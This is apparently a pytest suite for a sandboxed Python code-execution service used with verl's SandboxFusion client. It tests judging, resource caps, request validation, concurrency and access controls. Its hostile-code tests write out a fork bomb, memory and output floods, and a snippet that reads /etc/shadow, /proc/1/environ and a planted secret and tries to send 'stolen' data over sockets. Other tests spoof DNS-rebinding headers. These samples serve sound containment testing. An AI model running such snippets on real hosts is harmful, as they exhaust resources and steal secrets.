"""`evolforge sandbox-serve` driven by verl's own SandboxFusion client (testing/sandbox_fusion_client.py).

The module's service is the real command (`python -m evolforge.cli sandbox-serve`) on a free loopback port with
tight caps from a config file; the token and queue tests start their own in-process service (running_service).
"""

from __future__ import annotations

import concurrent.futures
import json
import os
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest
import requests

from evolforge.config.sections.sandbox import SandboxServiceSettings, SandboxSettings
from evolforge.tasks.core.serving import free_port
from evolforge.tasks.sandbox.service import ServiceConfigError, check_bind, running_service
from evolforge.testing.sandbox_fusion_client import load_client
from evolforge.testing.verl_env import VerlEnvUnavailable, ensure_verl_env

REPO = Path(__file__).resolve().parents[3]  # tests/tasks/sandbox/ -> the repository root
pytestmark = pytest.mark.skipif(not os.access("/usr/bin/bwrap", os.X_OK),
                                reason="bubblewrap not installed (apt-get install -y bubblewrap)")
CAPS = dict(cpu_seconds=4, memory_mb=512, max_processes=32, wall_timeout_seconds=20, max_output_bytes=200_000)
REVERSE = "s = input()\nprint(s[::-1])\n"
PLUS_FN = "class Solution:\n    def plus(self, a, b):\n        return a + b\n"  # not `add`: verl's wrapper star-imports operator


def _or_skip_offline(fn):
    try:
        return fn()
    except VerlEnvUnavailable as e:
        if e.offline:
            pytest.skip(f"verl cannot be had (package index unreachable): {e}")
        raise


@pytest.fixture(scope="module")
def client():
    return _or_skip_offline(load_client)


@pytest.fixture(scope="module")
def url(tmp_path_factory):
    cfg = tmp_path_factory.mktemp("sbx") / "config.toml"
    caps = "\n".join(f"{k} = {v}" for k, v in CAPS.items())
    cfg.write_text(f"[sandbox]\n{caps}\n\n[sandbox.service]\nmax_concurrency = 2\n")
    port = free_port()
    proc = subprocess.Popen([sys.executable, "-m", "evolforge.cli", "sandbox-serve", "--port", str(port),
                             "--config", str(cfg)], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    base = f"http://127.0.0.1:{port}"
    deadline = time.time() + 90
    while True:
        try:
            if requests.get(f"{base}/v1/ping", timeout=2).json() == "pong":
                break
        except requests.RequestException:
            pass
        if proc.poll() is not None or time.time() > deadline:
            proc.kill()
            pytest.fail(f"sandbox-serve did not start: {proc.communicate()[0][-2000:]}")
        time.sleep(0.2)
    yield f"{base}/run_code"
    proc.terminate()
    proc.wait(timeout=30)


def _call(client, url, code, stdin=None, run_timeout=10, memory_mb=1024, language="python"):
    response, error = client.call_sandbox_api(url, code, stdin, 10, run_timeout, memory_mb, language)
    assert error is None, error
    return response


def _alive(client, url) -> None:
    """The service still answers, and still judges correctly."""
    assert requests.get(url.replace("/run_code", "/v1/ping"), timeout=10).json() == "pong"
    results, _ = client.check_correctness(url, {"inputs": ["abc"], "outputs": ["cba"]}, REVERSE, timeout=10)
    assert results == [True]


def _survivors(marker: str) -> list[str]:
    """Host processes whose command line holds `marker` (not the sandbox uid range: other sandboxes share it)."""
    ps = subprocess.run(["ps", "-eo", "pid=,args="], capture_output=True, text=True, check=True).stdout
    return [line for line in ps.splitlines() if marker in line and "ps -eo" not in line]


# ---------------------------------------------------------------- verl's check_correctness


def test_correct_solutions_pass_and_wrong_ones_fail(client, url):
    cases = {"inputs": ["abc", "racecar", "xy"], "outputs": ["cba", "racecar", "yx"]}
    assert client.check_correctness(url, cases, REVERSE, timeout=10)[0] == [True, True, True]
    wrong, meta = client.check_correctness(url, cases, "print(input())\n", timeout=10)
    assert wrong == [False, True, False]
    assert [m["status"] for m in meta] == ["wrong_answer", "success", "wrong_answer"]
    crash, meta = client.check_correctness(url, cases, "raise ValueError('boom')\n", timeout=10)
    assert crash == [-2, -2, -2] and "ValueError: boom" in meta[0]["stderr"] and meta[0]["exit_code"] == 1


def test_function_call_cases_through_verls_wrapper(client, url):
    cases = {"fn_name": "plus", "inputs": ["1\n2", "-5\n5"], "outputs": ["3", "0"]}
    assert client.check_correctness(url, cases, PLUS_FN, timeout=10)[0] == [True, True]
    assert client.check_correctness(url, cases, PLUS_FN.replace("a + b", "a - b"), timeout=10)[0] == [False, False]


def test_verls_code_reward_scores_through_the_service(url):
    """verl's own reward entry (default_compute_score, as its trainer calls it for code data sources), in verl's
    environment: the completion's code block against JSON test cases."""
    env = _or_skip_offline(ensure_verl_env)
    script = (
        "import json, sys, threading\nfrom verl.utils.reward_score import default_compute_score\n"
        "cases = json.dumps({'inputs': ['abc', 'xy', 'q'], 'outputs': ['cba', 'yx', 'q']})\n"
        "good = 'Here it is:\\n```python\\n' + sys.argv[2] + '```'\nbad = '```python\\nprint(input())\\n```'\n"
        "score = lambda text: default_compute_score('codecontests', text, cases, sandbox_fusion_url=sys.argv[1],"
        " concurrent_semaphore=threading.Semaphore(4), memory_limit_mb=1024)\n"
        "print(json.dumps([score(good), score(bad), score('no code block')]))\n"
    )
    good, bad, no_code = env.run_json(script, url, REVERSE, timeout=300)
    assert good == 1.0 and abs(bad - 1 / 3) < 1e-9 and no_code == 0.0


def test_stdin_none_is_an_empty_stdin(client, url):
    r = _call(client, url, "import sys\nprint(repr(sys.stdin.read()))\n")
    assert r["status"] == "Success" and r["run_result"]["stdout"] == "''\n"


def test_response_has_sandbox_fusions_fields(client, url):
    r = _call(client, url, "import sys\nprint('out')\nprint('err', file=sys.stderr)\nraise SystemExit(3)\n")
    assert set(r) == {"status", "message", "compile_result", "run_result", "executor_pod_name", "files"}
    assert set(r["run_result"]) == {"status", "execution_time", "return_code", "stdout", "stderr"}
    assert (r["status"], r["run_result"]["status"], r["run_result"]["return_code"]) == ("Failed", "Finished", 3)
    assert (r["run_result"]["stdout"], r["run_result"]["stderr"]) == ("out\n", "err\n")
    assert r["compile_result"] is None and r["files"] == {} and r["run_result"]["execution_time"] > 0


# ---------------------------------------------------------------- limits


def test_timeouts_report_time_limit_exceeded(client, url):
    for code in ("while True:\n    pass\n", "import time\ntime.sleep(600)\n"):
        results, meta = client.check_correctness(url, {"inputs": [""], "outputs": [""]}, code, timeout=2)
        assert results == [-3], meta
        assert (meta[0]["api_status"], meta[0]["run_status"], meta[0]["status"]) == ("Failed", "TimeLimitExceeded", "timeout")
        assert meta[0]["exit_code"] is None and 2 <= meta[0]["duration"] < 10


def test_a_request_cannot_loosen_the_servers_caps(client, url):
    loop = _call(client, url, "while True:\n    pass\n", run_timeout=600)  # cap: 4 CPU seconds
    assert loop["run_result"]["status"] == "TimeLimitExceeded"
    assert loop["run_result"]["execution_time"] < CAPS["wall_timeout_seconds"] + 5  # not the 600 s asked for
    hog = "x = bytearray(700 * 1024 * 1024)\nprint('allocated')\n"  # cap: 512 MiB
    r = _call(client, url, hog, memory_mb=100_000)
    assert r["status"] == "Failed" and "MemoryError" in r["run_result"]["stderr"] and "allocated" not in r["run_result"]["stdout"]
    assert _call(client, url, hog, memory_mb=-1)["status"] == "Failed"


def test_a_request_tightens_the_memory_limit(client, url):
    code = "x = bytearray(200 * 1024 * 1024)\nprint('allocated')\n"
    assert _call(client, url, code, memory_mb=512)["run_result"]["stdout"] == "allocated\n"
    tight = _call(client, url, code, memory_mb=128)
    assert tight["status"] == "Failed" and "MemoryError" in tight["run_result"]["stderr"]


# ---------------------------------------------------------------- refusals and malformed calls


def test_other_languages_are_refused_in_sandbox_fusions_form(client, url):
    r = _call(client, url, "int main() { return 0; }", language="cpp")
    assert r["status"] == "SandboxError" and "not supported" in r["message"] and r["run_result"] is None
    results, meta = client.check_correctness(url, {"inputs": [""], "outputs": [""]}, "echo hi", language="bash")
    assert results == [-1] and meta[0]["status"] == "sandbox_error"
    unknown = requests.post(url, json={"code": "x", "language": "cobol"}, timeout=10)
    assert unknown.status_code == 422
    (err,) = unknown.json()["detail"]
    assert err["type"] == "literal_error" and err["loc"] == ["body", "language"] and err["input"] == "cobol"
    unset = requests.post(url, json={"code": "print(1)", "language": "python", "memory_limit_MB": None}, timeout=10)
    assert unset.json()["status"] == "Success"  # verl sends null when its memory_limit_mb is unset
    files = requests.post(url, json={"code": "print(1)", "language": "python", "files": {"a.txt": "eA=="}}, timeout=10)
    assert files.status_code == 200 and files.json()["status"] == "SandboxError"


@pytest.mark.parametrize("body, kind", [
    (b"{not json", "json_invalid"), (b"\xff\xfe\x00", "json_invalid"), (b"[" * 50_000, "json_invalid"),
    (b'{"code": "print(1)", "language": "python", "run_timeout": NaN}', "json_invalid"),
    (b'{"code": "print(1)", "language": "python", "run_timeout": 1e999}', "finite_number"),
    (b'{"code": "print(1)", "language": "python", "run_timeout": 0}', "greater_than"),
    (b'{"language": "python"}', "missing"), (b'{"code": 5, "language": "python"}', "string_type"),
    (b'[1, 2]', "model_type"), (b"", "json_invalid"),
])
def test_malformed_requests_get_a_422_json_error(client, url, body, kind):
    r = requests.post(url, data=body, headers={"Content-Type": "application/json"}, timeout=10)
    assert r.status_code == 422 and r.json()["detail"][0]["type"] == kind, r.text[:500]
    assert len(r.content) < 5000


def test_oversized_body_is_refused_and_the_service_keeps_serving(client, url):
    r = requests.post(url, json={"code": "#" * 3_000_000, "language": "python"}, timeout=30)
    assert r.status_code == 413 and "max_body_bytes" in r.json()["detail"]
    assert requests.get(url.replace("/run_code", "/nowhere"), timeout=10).status_code == 404
    _alive(client, url)


# ---------------------------------------------------------------- hostile code


def test_fork_bomb_is_contained(client, url):
    marker = "717.3131"
    bomb = f"import os\nfor _ in range(300):\n    if os.fork() == 0:\n        os.execv('/usr/bin/sleep', ['sleep', '{marker}'])\n"
    r = _call(client, url, bomb)
    assert r["status"] == "Failed" and "BlockingIOError" in r["run_result"]["stderr"]
    time.sleep(0.2)
    assert _survivors(marker) == []
    _alive(client, url)


def test_huge_output_is_cut_off(client, url):
    flood = "import sys\nchunk = 'x' * (1 << 20)\nwhile True:\n    sys.stdout.write(chunk)\n"
    r = _call(client, url, flood)
    assert r["status"] == "Failed" and r["message"] == "killed: output_cap"
    assert len(r["run_result"]["stdout"]) + len(r["run_result"]["stderr"]) <= CAPS["max_output_bytes"]
    _alive(client, url)


def test_files_outside_and_the_network_are_out_of_reach(client, url):
    secret = REPO / f".evolforge-sbx-service-secret-{os.getpid()}"
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    listener.setblocking(False)
    port = listener.getsockname()[1]
    snoop = (
        "import json, os, socket\nseen = {}\n"
        f"for path in [{str(secret)!r}, '/work/main/pyproject.toml', '/etc/shadow', '/proc/1/environ']:\n"
        "    try:\n        seen[path] = open(path).read()\n    except OSError as e:\n        seen[path] = type(e).__name__\n"
        f"for host in [('127.0.0.1', {port}), ('1.1.1.1', 53)]:\n"
        "    try:\n        socket.create_connection(host, timeout=3).sendall(b'stolen')\n        seen[str(host)] = 'connected'\n"
        "    except OSError as e:\n        seen[str(host)] = type(e).__name__\n"
        "print(json.dumps(seen))\n"
    )
    try:
        secret.write_text("TOP-SECRET-VALUE")
        r = _call(client, url, snoop)
        with pytest.raises(BlockingIOError):
            listener.accept()  # nothing reached the host
    finally:
        secret.unlink(missing_ok=True)
        listener.close()
    assert r["status"] == "Success", r
    assert "TOP-SECRET-VALUE" not in json.dumps(r)
    seen = json.loads(r["run_result"]["stdout"])
    assert seen[str(secret)] == seen["/work/main/pyproject.toml"] == seen["/etc/shadow"] == "FileNotFoundError"
    assert seen["/proc/1/environ"] == "PermissionError"
    assert "connected" not in seen.values()
    _alive(client, url)


def test_hostile_calls_at_once_leave_the_service_serving(client, url):
    hostile = ["while True:\n    pass\n", "import os\nwhile True:\n    os.fork()\n",
               "x = []\nwhile True:\n    x.append(bytearray(1 << 26))\n", "print('x' * 10**8)\n"]
    with concurrent.futures.ThreadPoolExecutor(4) as pool:
        answers = list(pool.map(lambda code: _call(client, url, code, run_timeout=3), hostile))
    assert all(a["status"] == "Failed" for a in answers), answers
    _alive(client, url)


# ---------------------------------------------------------------- concurrency, queueing, access


def test_runs_are_bounded_by_max_concurrency_off_the_event_loop(client, url):
    code = "import json, time\nt = time.time()\ntime.sleep(1.0)\nprint(json.dumps([t, time.time()]))\n"
    with concurrent.futures.ThreadPoolExecutor(6) as pool:
        futures = [pool.submit(_call, client, url, code) for _ in range(6)]
        time.sleep(0.5)
        pong = requests.get(url.replace("/run_code", "/v1/ping"), timeout=5).json()  # while runs are in flight
        in_flight = sum(not f.done() for f in futures)
        spans = [json.loads(f.result()["run_result"]["stdout"]) for f in futures]
    assert pong == "pong" and in_flight > 0
    events = sorted([(s, 1) for s, _ in spans] + [(e, -1) for _, e in spans], key=lambda x: (x[0], x[1]))
    running = peak = 0
    for _, step in events:
        running += step
        peak = max(peak, running)
    assert peak == 2  # max_concurrency = 2: parallel, and never more


def test_a_call_waiting_too_long_for_a_slot_gets_504():
    settings = SandboxSettings(**CAPS, service=SandboxServiceSettings(max_concurrency=1, queue_timeout_seconds=0.5))
    with running_service(settings) as url:
        body = {"code": "import time\ntime.sleep(3)\n", "language": "python"}
        with concurrent.futures.ThreadPoolExecutor(2) as pool:
            answers = list(pool.map(lambda _: requests.post(url, json=body, timeout=30), range(2)))
        assert sorted(a.status_code for a in answers) == [200, 504]
        assert "slots" in next(a for a in answers if a.status_code == 504).json()["detail"]


def test_access_token(client, monkeypatch):
    with pytest.raises(ServiceConfigError):
        check_bind("0.0.0.0", None)
    check_bind("0.0.0.0", "t0k3n")
    check_bind("127.0.0.1", None)
    monkeypatch.setenv("EVOLFORGE_SANDBOX_TOKEN", "t0k3n-s3cret")
    with running_service(SandboxSettings(**CAPS)) as url:
        base = url.removesuffix("/run_code")
        assert requests.post(url, json={"code": "print(1)", "language": "python"}, timeout=10).status_code == 401
        assert requests.get(f"{base}/t/wrong/v1/ping", timeout=10).status_code == 401
        response, error = client.call_sandbox_api(f"{base}/t/wrong/run_code", "print(1)", None, 10, 10, 1024, "python")
        assert response is None and "401" in error
        authed = f"{base}/t/t0k3n-s3cret/run_code"  # verl's client sends no headers of its own: the token rides in the URL
        assert client.check_correctness(authed, {"inputs": ["abc"], "outputs": ["cba"]}, REVERSE)[0] == [True]
        bearer = requests.post(url, json={"code": "print(1)", "language": "python"}, timeout=10,
                               headers={"Authorization": "Bearer t0k3n-s3cret"})
        assert bearer.json()["status"] == "Success"


def test_cli_refuses_a_public_bind_without_a_token():
    env = {k: v for k, v in os.environ.items() if k != "EVOLFORGE_SANDBOX_TOKEN"}
    out = subprocess.run([sys.executable, "-m", "evolforge.cli", "sandbox-serve", "--host", "0.0.0.0", "--port", "0"],
                         capture_output=True, text=True, timeout=120, env=env)
    assert out.returncode == 2 and "access token" in out.stderr


def test_a_web_page_cannot_drive_the_loopback_service(client, monkeypatch):
    """A cross-origin text/plain POST with a foreign Host (a web page, DNS rebinding) runs nothing; verl's client,
    which sends JSON to 127.0.0.1 with no Origin, still does."""
    monkeypatch.delenv("EVOLFORGE_SANDBOX_TOKEN", raising=False)
    marker = "ran-from-a-web-page"
    body = json.dumps({"code": f"print('{marker}')", "language": "python"})
    with running_service(SandboxSettings(**CAPS)) as url:
        port = url.split(":")[2].split("/")[0]
        page = {"Host": f"rebind.attacker.example:{port}", "Origin": "http://rebind.attacker.example",
                "Content-Type": "text/plain", "Sec-Fetch-Site": "cross-site"}
        cases = [(page, 403), ({"Host": f"rebind.attacker.example:{port}"}, 403),
                 ({"Origin": "http://rebind.attacker.example"}, 403), ({"Sec-Fetch-Site": "cross-site"}, 403),
                 ({"Content-Type": "text/plain"}, 415), ({"Content-Type": "application/x-www-form-urlencoded"}, 415)]
        for headers, status in cases:
            r = requests.post(url, data=body, headers={"Content-Type": "application/json", **headers}, timeout=30)
            assert r.status_code == status and marker not in r.text, headers
            assert isinstance(r.json()["detail"], str)
        r = requests.get(url.replace("/run_code", "/v1/ping"), headers={"Host": "rebind.attacker.example"}, timeout=10)
        assert r.status_code == 403
        for host in (f"localhost:{port}", f"127.0.0.1:{port}", f"[::1]:{port}"):
            r = requests.post(url, data=body, headers={"Content-Type": "application/json", "Host": host}, timeout=30)
            assert r.json()["run_result"]["stdout"] == f"{marker}\n", host
        assert client.check_correctness(url, {"inputs": ["abc"], "outputs": ["cba"]}, REVERSE)[0] == [True]


def test_allowed_origins_and_hosts_let_a_configured_page_in():
    service = SandboxServiceSettings(allowed_origins=["http://localhost:3000"], allowed_hosts=["sandbox.lan"])
    with running_service(SandboxSettings(**CAPS, service=service)) as url:
        page = {"Origin": "http://localhost:3000", "Sec-Fetch-Site": "cross-site"}
        pre = requests.options(url, headers={**page, "Access-Control-Request-Method": "POST",
                                             "Access-Control-Request-Headers": "content-type"}, timeout=10)
        assert pre.status_code == 200 and pre.headers["access-control-allow-origin"] == "http://localhost:3000"
        r = requests.post(url, json={"code": "print(1)", "language": "python"}, headers=page, timeout=30)
        assert r.json()["status"] == "Success" and r.headers["access-control-allow-origin"] == "http://localhost:3000"
        r = requests.post(url, json={"code": "print(1)", "language": "python"}, headers={"Host": "sandbox.lan"}, timeout=30)
        assert r.json()["status"] == "Success"
        bad = requests.post(url, json={"code": "print(1)", "language": "python"},
                            headers={"Origin": "http://evil.example"}, timeout=30)
        assert bad.status_code == 403
